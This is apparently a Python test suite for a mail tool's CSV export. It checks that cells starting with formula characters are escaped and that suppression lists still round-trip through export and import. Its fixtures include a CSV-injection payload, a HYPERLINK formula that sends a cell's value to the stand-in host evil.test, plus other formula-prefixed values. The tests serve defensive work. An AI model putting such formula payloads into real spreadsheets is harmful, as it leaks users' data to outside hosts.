"""Every CSV mailbeacon writes is safe to open in a spreadsheet (issue 12.4): no cell
starts with a formula character, and the suppression CSVs still round-trip."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from mailbeacon.cli import main
from mailbeacon.cli.suppressions import suppressions
from mailbeacon.model import spreadsheet
from mailbeacon.storage.db import Database
from mailbeacon.suppress import lists as sl
from mailbeacon.suppress.rules import SuppressionKind

FORMULA = '=HYPERLINK("http://evil.test/?"&A2,"Click")'
HOSTILE = {
    SuppressionKind.BOUNCE: [
        sl.Entry("=x@example.org", code="550", error=FORMULA),
        sl.Entry("-y@example.org", code="550", error="+1 user unknown"),
        sl.Entry("z@example.org", code="550", error="@SUM(1)"),
        sl.Entry("q@example.org", code="550", error="'=already quoted")],
    SuppressionKind.UNSUBSCRIBE: [sl.Entry("+u@example.org", scopes=("-tag",))],
    SuppressionKind.COMPLAINT: [sl.Entry("-c@example.org")],
    SuppressionKind.ALLOWLIST: [sl.Entry("=a@example.org", error="\tcmd")],
}


def cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


def assert_safe(text: str) -> None:
    for value in cells(text):
        assert not value.startswith(spreadsheet.FORMULA_STARTS), value


@given(st.text(st.sampled_from(list("=+-@\t\r'ab,\"\n")), max_size=8))
def test_cells_round_trip(value: str) -> None:
    written = spreadsheet.cell(value)
    assert isinstance(written, str)
    assert not written.startswith(spreadsheet.FORMULA_STARTS)
    assert spreadsheet.unescape(written) == value


def test_numbers_are_written_as_numbers() -> None:
    out = io.StringIO()
    spreadsheet.writer(out).writerow([-5, 1.5, "-5"])
    assert out.getvalue() == "-5,1.5,'-5\r\n"


def test_cli_export_is_safe_and_round_trips(database_url: str, tmp_path: Path) -> None:
    for name in ("a.example.com", "b.example.com"):
        result = CliRunner().invoke(main, ["domains", "add", name,
                                           "--database-url", database_url])
        assert result.exit_code == 0, result.output
    db = Database(database_url)
    try:
        for kind, entries in HOSTILE.items():
            sl.add_entries(db, "a.example.com", kind, entries)
        for name, kind in sl.LISTS.items():
            path = tmp_path / f"{name}.csv"
            result = CliRunner().invoke(suppressions, ["export", "a.example.com", name,
                                                       str(path), "--database-url",
                                                       database_url])
            assert result.exit_code == 0, result.output
            text = path.read_text()
            assert_safe(text)
            if kind is SuppressionKind.BOUNCE:
                assert "'" + FORMULA in cells(text)
            result = CliRunner().invoke(suppressions, ["import", "b.example.com", name,
                                                       str(path), "--database-url",
                                                       database_url])
            assert result.exit_code == 0, result.output
            assert [(e.address, e.error, e.scopes) for e in
                    sl.iter_entries(db, "b.example.com", kind)] == \
                [(e.address, e.error, e.scopes) for e in
                 sl.iter_entries(db, "a.example.com", kind)]
    finally:
        db.dispose()


def test_every_csv_goes_through_the_one_writer() -> None:
    """A new export with its own csv.writer would miss the escaping."""
    package = Path(spreadsheet.__file__).parents[1]
    others = [str(path.relative_to(package)) for path in package.rglob("*.py")
              if path.name != "spreadsheet.py"
              and ("csv.writer" in path.read_text() or "DictWriter" in path.read_text())]
    assert others == []
